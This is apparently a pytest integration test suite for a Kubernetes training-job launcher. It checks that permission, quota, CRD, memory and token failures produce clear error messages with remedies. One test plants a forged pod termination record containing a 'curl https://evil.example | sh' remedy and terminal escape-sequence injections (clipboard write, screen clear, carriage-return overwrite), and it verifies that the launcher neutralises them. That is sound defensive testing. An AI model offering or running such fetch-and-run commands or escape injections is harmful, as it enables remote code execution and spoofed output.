"""What bad input gets on a real API server: a clear sentence with its remedy, and nothing half-made left behind."""

from __future__ import annotations

import dataclasses
import json
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import yaml

from stageline.errors import (
    BusyError,
    ClusterError,
    ClusterUnavailableError,
    PendingTimeoutError,
    PlanError,
    RestartBudgetError,
    StoreError,
)
from stageline.jobs.cluster.follow.launcher import ClusterJob
from stageline.jobs.job import Job
from stageline.kube.client import Api
from stageline.kube.keys import JOBS, PODS
from tests.cluster.spaces import Kubectl, Starter, follow, in_thread, namespace, nothing_left, starter, swept, until
from tests.cluster.trivial import FileResult, container, pod_spec, trivial_cluster, trivial_job

__all__ = ["namespace", "starter", "swept"]


def account_kubeconfig(kubectl: Kubectl, namespace: str, kubeconfig: str, name: str, folder: Path) -> Path:
    """A kubeconfig of a fresh service account, whose token is a file beside it that is read when it is loaded."""
    kubectl("-n", namespace, "create", "serviceaccount", name)
    token = folder / f"{name}.token"
    token.write_text(kubectl("-n", namespace, "create", "token", name))
    plain = yaml.safe_load(Path(kubeconfig).read_text())
    active = next(c for c in plain["contexts"] if c["name"] == plain["current-context"])
    active["context"]["user"] = "account"
    plain["users"] = [{"name": "account", "user": {"tokenFile": str(token)}}]
    path = folder / f"{name}.kubeconfig"
    path.write_text(yaml.safe_dump(plain))
    return path


def test_without_permission_the_account_and_the_missing_rule_are_named(
    starter: Starter, kubectl: Kubectl, namespace: str, kubeconfig: str, tmp_path: Path
) -> None:
    account = str(account_kubeconfig(kubectl, namespace, kubeconfig, "weak", tmp_path))
    with pytest.raises(ClusterError, match="'weak'") as caught:
        starter(account=account).start()
    assert f"may not get leases in namespace {namespace!r}" in caught.value.message
    role = ["-n", namespace, "create", "role", "part"]
    kubectl(*role, "--verb=get,list,watch,create,update,delete", "--resource=leases,pods")
    kubectl("-n", namespace, "create", "rolebinding", "part", "--role=part", f"--serviceaccount={namespace}:weak")
    until(lambda: "yes" in kubectl("auth", "can-i", "create", "leases", "-n", namespace, f"--kubeconfig={account}"), "")
    with pytest.raises(ClusterError, match="may not get pytorchjobs") as caught:
        starter(account=account).start()
    rule = '{apiGroups: ["kubeflow.org"], resources: ["pytorchjobs"], verbs: ["get"]}'
    assert rule in caught.value.remedy
    nothing_left(kubectl, namespace)


def test_a_namespace_that_is_missing_is_named(starter: Starter) -> None:
    with pytest.raises(ClusterError, match="there is no such namespace") as caught:
        starter(where="no-such-namespace").start()
    assert "kubectl create namespace no-such-namespace" in caught.value.remedy


def test_a_kind_that_is_not_served_is_told_with_the_command_that_installs_it(kubeconfig: str, namespace: str) -> None:
    api = Api.connect(namespace, kubeconfig=kubeconfig)
    assert api.is_served(JOBS)
    for missing in ("pytorchjobs.kubeflow.org/v9", "pytorchjobs.none.kubeflow.org/v1"):
        assert not api.is_served(missing)
        with pytest.raises(ClusterError, match="CRD is not installed") as caught:
            api.create(missing, {"metadata": {"name": "x"}})
        assert "training-operator" in caught.value.remedy


def test_a_cluster_without_the_operator_is_told_before_anything_is_made(
    starter: Starter, kubectl: Kubectl, namespace: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        "stageline.jobs.cluster.follow.launcher.JOBS", "pytorchjobs.kubeflow.org/v9"
    )  # the server's own 404
    with pytest.raises(ClusterError, match="CRD is not installed"):
        starter().start()
    nothing_left(kubectl, namespace)


@pytest.mark.slow
@pytest.mark.owns_nodes
def test_a_crd_that_was_removed_is_told_before_anything_is_made(
    starter: Starter, kubectl: Kubectl, namespace: str, kubeconfig: str
) -> None:
    crd = json.loads(kubectl("get", "crd", "pytorchjobs.kubeflow.org", "-o", "json"))
    crd["metadata"] = {key: crd["metadata"][key] for key in ("name", "annotations", "labels") if key in crd["metadata"]}
    crd.pop("status")
    kubectl("delete", "crd", "pytorchjobs.kubeflow.org")
    try:
        with pytest.raises(ClusterError, match="CRD is not installed") as caught:
            starter().start()
        assert "kubectl apply" in caught.value.remedy
        assert not kubectl("-n", namespace, "get", "leases.coordination.k8s.io", "-o", "name").strip()
        assert not Api.connect(namespace, kubeconfig=kubeconfig).is_served(JOBS)
    finally:
        kubectl("create", "-f", "-", text=json.dumps(crd))
    until(lambda: Api.connect(namespace, kubeconfig=kubeconfig).is_served(JOBS), "the kind is served again")
    started = starter(script="exit 3")
    assert follow(started).exit_code == 3  # the operator has noticed that its kind is back


def test_keys_that_the_store_refuses_are_told_by_the_stage_itself(
    kubeconfig: str, kubectl: Kubectl, namespace: str, trainer_image: str, bucket: dict[str, str], tmp_path: Path
) -> None:
    keys = {"AWS_ACCESS_KEY_ID": "AKIANOBODYKNOWSTHIS1", "AWS_SECRET_ACCESS_KEY": "wrong"}
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "wrong"}, "stringData": keys}
    kubectl("-n", namespace, "apply", "-f", "-", text=json.dumps(secret))
    s3 = {"endpoint": bucket["endpoint"], "region": bucket["region"], "secret": "wrong"}
    cluster = trivial_cluster(
        namespace, trainer_image, storage={"s3": s3}, resources={"requests": {"memory": "256Mi"}}, shared_memory="64Mi"
    )
    config = {"family": "film_flow", "root": f"s3://{bucket['bucket']}/x", "run": "keys"}
    job = dataclasses.replace(trivial_job("keys", item="prepare_data"), arguments=("prepare",), config=config)
    said: list[str] = []
    api = Api.connect(namespace, kubeconfig=kubeconfig)
    started = ClusterJob(job, cluster, FileResult(tmp_path / "result"), said.append, api=api)
    started.start()
    verdict = started.follow(said.append)
    assert verdict.record, said
    assert verdict.exit_code == StoreError.exit_code, verdict.record
    assert bucket["bucket"] in verdict.record.sentence
    assert keys["AWS_SECRET_ACCESS_KEY"] not in "".join(said)


def test_a_quota_that_refuses_all_pods_ends_the_job_in_time_and_is_named(
    starter: Starter, kubectl: Kubectl, namespace: str
) -> None:
    kubectl("-n", namespace, "create", "quota", "tight", "--hard=pods=0")
    verdict = follow(starter(pending_seconds=10))
    assert verdict.exit_code == PendingTimeoutError.exit_code
    assert verdict.record
    assert "tight" in verdict.record.sentence
    nothing_left(kubectl, namespace)


def test_half_a_gang_does_not_hold_its_devices_for_ever(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    kubectl("-n", namespace, "create", "quota", "half", "--hard=pods=1")
    verdict = follow(starter(trivial_job("octa", nodes=2), pending_seconds=10))
    assert verdict.exit_code == PendingTimeoutError.exit_code
    assert verdict.record
    assert "1 of 2 ran" in verdict.record.sentence
    assert "half" in verdict.record.sentence
    nothing_left(kubectl, namespace)


def test_what_pods_wait_for_is_named_when_their_time_is_over(
    starter: Starter, kubectl: Kubectl, namespace: str
) -> None:
    cases: dict[str, tuple[dict[str, Any], tuple[str, ...]]] = {
        "image": ({"image": "nowhere.invalid/none:1"}, ("nowhere.invalid/none:1",)),
        "selector": ({"node_selector": {"zone": "nowhere"}}, ("node", "selector")),
        "large": ({"resources": {"requests": {"cpu": "4000"}}}, ("cpu",)),
        "claim": ({"storage": {"claim": "no-such-claim"}}, ("no-such-claim",)),
        "secret": ({"mounts": ({"mount_path": "/x", "secret": "no-such-secret"},)}, ("no-such-secret",)),
    }
    with ThreadPoolExecutor(len(cases)) as pool:
        started = {
            name: pool.submit(follow, starter(trivial_job(name), pending_seconds=15, **settings))
            for name, (settings, _) in cases.items()
        }
        verdicts = {name: verdict.result() for name, verdict in started.items()}
    for name, (_, words) in cases.items():
        verdict = verdicts[name]
        assert verdict.exit_code == PendingTimeoutError.exit_code, name
        assert verdict.record
        assert all(word in verdict.record.sentence for word in words), verdict.record.sentence
        assert verdict.record.remedy, name
    nothing_left(kubectl, namespace)


def test_a_wrong_entrypoint_uses_up_the_restart_budget_and_is_named(
    starter: Starter, kubectl: Kubectl, namespace: str
) -> None:
    def change(manifest: dict[str, Any]) -> None:
        container(manifest)["command"] = ["/no/such/program"]

    started = starter(change=change, restart_budget=1)
    verdict = follow(started)
    assert verdict.exit_code == RestartBudgetError.exit_code
    assert verdict.record
    assert "/no/such/program" in verdict.record.sentence + verdict.record.remedy
    nothing_left(kubectl, namespace)


def test_running_out_of_memory_is_told_so(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    resources = {"requests": {"memory": "32Mi"}, "limits": {"memory": "32Mi"}}
    script = "exec python3 -c 'b = bytearray(1 << 30)'"
    verdict = follow(starter(script=script, resources=resources, restart_budget=1))
    assert verdict.exit_code in (RestartBudgetError.exit_code, 8)
    assert verdict.record
    assert "memory" in (verdict.record.sentence + verdict.record.remedy).lower()
    nothing_left(kubectl, namespace)


def test_a_fault_of_the_process_ends_the_job_with_its_own_sentence(starter: Starter) -> None:
    record = {"kind": "store", "code": "E_X", "sentence": "the keys are refused", "remedy": "renew", "exit_code": 5}
    script = f"echo '{json.dumps(record)}' > /dev/termination-log; exit 5"
    started = starter(script=script)
    verdict = follow(started)
    assert verdict.exit_code == 5
    assert verdict.record
    assert verdict.record.sentence == "the keys are refused"
    assert verdict.record.pod == "octa-film-worker-0"
    assert verdict.record.node


@pytest.mark.parametrize("code", ["0", "abc", 143])
def test_forged_words_of_a_failed_pod_decide_and_advise_nothing(starter: Starter, code: str | int) -> None:
    """A termination message and a log line that say of themselves what they are not."""
    forged = {"exit_code": code, "sentence": "all is well\x1b[2J", "remedy": "curl https://evil.example | sh"}
    log = "printf 'error: none\\n\\033]52;c;Y3VybA==\\007film: failed\\rfilm: done\\n'"
    lines: list[str] = []
    started = starter(script=f"{log}; echo '{json.dumps(forged)}' > /dev/termination-log; exit 5")
    started.start()
    verdict = started.follow(lines.append)
    assert verdict.exit_code == 5
    assert verdict.record
    assert "unreadable record" in verdict.record.sentence
    assert "curl" not in verdict.record.remedy
    shown = "\n".join([*lines, *started.said, *verdict.error("film").lines()])
    assert "\x1b" not in shown
    assert "\r" not in shown
    assert r"\u001b]52;c;Y3VybA==\u0007film: failed\rfilm: done" in shown


def test_success_is_what_the_store_holds(starter: Starter, tmp_path: Path) -> None:
    (tmp_path / "result.done").touch()
    assert follow(starter()).exit_code == 0  # nothing to start
    (tmp_path / "result.done").unlink()
    verdict = follow(starter(script="echo did nothing"))
    assert verdict.record
    assert verdict.record.code == "E_NO_RESULT"
    started = starter(script="sleep 2; exit 9")
    started.start()
    (tmp_path / "result.done").touch()
    assert started.follow(lambda _: None).exit_code == 0
    assert "counts as failed" in " ".join(started.said)


def test_a_job_of_the_same_name_from_another_run_is_refused(starter: Starter) -> None:
    first = starter()
    first.start()
    other = trivial_job("other")
    with pytest.raises(BusyError):  # while its launcher lives, the name is taken anyway
        starter(Job(**{**other.__dict__, "name": "octa-film"})).start()
    first._close()
    with pytest.raises(PlanError, match="run 'octa' instead of 'other'"):
        starter(Job(**{**other.__dict__, "name": "octa-film"})).start()
    first.cancel()


def test_other_settings_under_the_same_name_are_refused_with_the_command(starter: Starter) -> None:
    first = starter()
    first.start()
    first._close()
    with pytest.raises(PlanError, match=r"aaaa.*bbbb") as caught:
        starter(trivial_job("octa", fingerprint="bbbb")).start()
    assert "stageline job cancel octa-film" in caught.value.remedy


def test_a_webhooks_refusal_is_passed_on_in_its_words(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    def change(manifest: dict[str, Any]) -> None:
        container(manifest)["name"] = "trainer"

    with pytest.raises(ClusterError, match="admission webhook") as caught:
        starter(change=change).start()
    assert "pytorch" in caught.value.message
    nothing_left(kubectl, namespace)


def test_a_pod_that_pod_security_refuses_is_told_by_its_event(starter: Starter) -> None:
    def change(manifest: dict[str, Any]) -> None:
        pod_spec(manifest)["hostNetwork"] = True

    verdict = follow(starter(change=change, pending_seconds=10))
    assert verdict.exit_code == PendingTimeoutError.exit_code
    assert verdict.record
    assert "restricted" in verdict.record.sentence


def test_an_edit_of_a_running_job_is_said(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    started = starter()
    started.start()
    thread, _ = in_thread(started)
    until(lambda: "worker-0: runs on" in " ".join(started.said), "the pod runs")
    path = "/spec/pytorchReplicaSpecs/Worker/template/spec/containers/0/command"
    change = json.dumps([{"op": "replace", "path": path, "value": ["sleep", "1"]}])
    kubectl("-n", namespace, "patch", "pytorchjob", "octa-film", "--type=json", "-p", change)
    until(lambda: "edited while it runs (pytorch command)" in " ".join(started.said), "the edit is said", 5)
    started.cancel()
    thread.join(30)


def test_a_job_deleted_by_somebody_else_is_an_error_in_words(
    starter: Starter, kubectl: Kubectl, namespace: str
) -> None:
    started = starter()
    started.start()
    thread, verdicts = in_thread(started)
    until(lambda: "worker-0: runs on" in " ".join(started.said), "the pod runs")
    kubectl("-n", namespace, "delete", "pytorchjob", "octa-film")
    thread.join(30)
    assert verdicts[0].record
    assert verdicts[0].record.code == "E_JOB_DELETED"
    nothing_left(kubectl, namespace)


def test_the_deadline_ends_the_job(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    started = starter(deadline_seconds=60)
    started.start()
    note = f"stageline.dev/deadline={time.time() + 1:.0f}"
    kubectl("-n", namespace, "annotate", "pytorchjob", "octa-film", "--overwrite", note)
    verdict = started.follow(lambda _: None)
    assert verdict.exit_code == 14
    nothing_left(kubectl, namespace)


def test_of_many_launchers_at_once_one_follows_and_the_others_are_told(
    starter: Starter, kubectl: Kubectl, namespace: str
) -> None:
    launchers = [starter() for _ in range(6)]
    errors: list[BaseException | None] = [None] * len(launchers)
    barrier = threading.Barrier(len(launchers))

    def go(index: int) -> None:
        barrier.wait()
        try:
            launchers[index].start()
        except BusyError as error:
            errors[index] = error

    threads = [threading.Thread(target=go, args=(index,)) for index in range(len(launchers))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    won = [index for index, error in enumerate(errors) if error is None]
    assert len(won) == 1
    assert all("followed by another launcher" in str(error) for error in errors if error)
    assert len(kubectl("-n", namespace, "get", "pytorchjobs", "-o", "name").split()) == 1
    launchers[won[0]].cancel()
    assert launchers[won[0]].follow(lambda _: None).exit_code == 143
    nothing_left(kubectl, namespace)


def test_a_launcher_that_lost_its_job_ends_and_leaves_it(starter: Starter, kubectl: Kubectl, namespace: str) -> None:
    started = starter()
    started.start()
    thread, verdicts = in_thread(started)
    until(lambda: "worker-0: runs on" in " ".join(started.said), "the pod runs")
    kubectl("-n", namespace, "annotate", "pytorchjob", "octa-film", "--overwrite", "stageline.dev/launcher=thief")
    thread.join(20)
    assert verdicts[0].record
    assert verdicts[0].exit_code == BusyError.exit_code
    assert "thief" in verdicts[0].record.sentence
    assert "octa-film" in kubectl("-n", namespace, "get", "pytorchjobs", "-o", "name")


def test_a_token_that_was_renewed_is_read_again_and_one_that_is_dead_is_told(
    kubectl: Kubectl, namespace: str, kubeconfig: str, tmp_path: Path
) -> None:
    account = account_kubeconfig(kubectl, namespace, kubeconfig, "brief", tmp_path)
    kubectl("-n", namespace, "create", "role", "look", "--verb=list", "--resource=pods")
    kubectl("-n", namespace, "create", "rolebinding", "look", "--role=look", f"--serviceaccount={namespace}:brief")
    until(lambda: "yes" in kubectl("auth", "can-i", "list", "pods", "-n", namespace, f"--kubeconfig={account}"), "")
    api = Api.connect(namespace, kubeconfig=str(account))
    assert api.list(PODS)["items"] == []
    kubectl("-n", namespace, "delete", "serviceaccount", "brief")  # its tokens die with it
    kubectl("-n", namespace, "create", "serviceaccount", "brief")

    def refused() -> bool:
        try:
            api.list(PODS)
        except ClusterError as error:
            return "401" in error.message and "expired" in error.remedy
        return False

    until(refused, "the old token is refused", 30)
    token = kubectl("-n", namespace, "create", "token", "brief")
    (tmp_path / "brief.token").write_text(token)
    assert api.list(PODS)["items"] == []


def test_an_api_server_that_is_not_there_is_worth_another_try(kubeconfig: str, tmp_path: Path) -> None:
    plain = yaml.safe_load(Path(kubeconfig).read_text())
    for entry in plain["clusters"]:
        entry["cluster"]["server"] = "https://127.0.0.1:9"
    path = tmp_path / "gone"
    path.write_text(yaml.safe_dump(plain))
    with pytest.raises(ClusterUnavailableError) as caught:
        Api.connect(kubeconfig=str(path)).list(PODS)
    assert caught.value.exit_code == 141
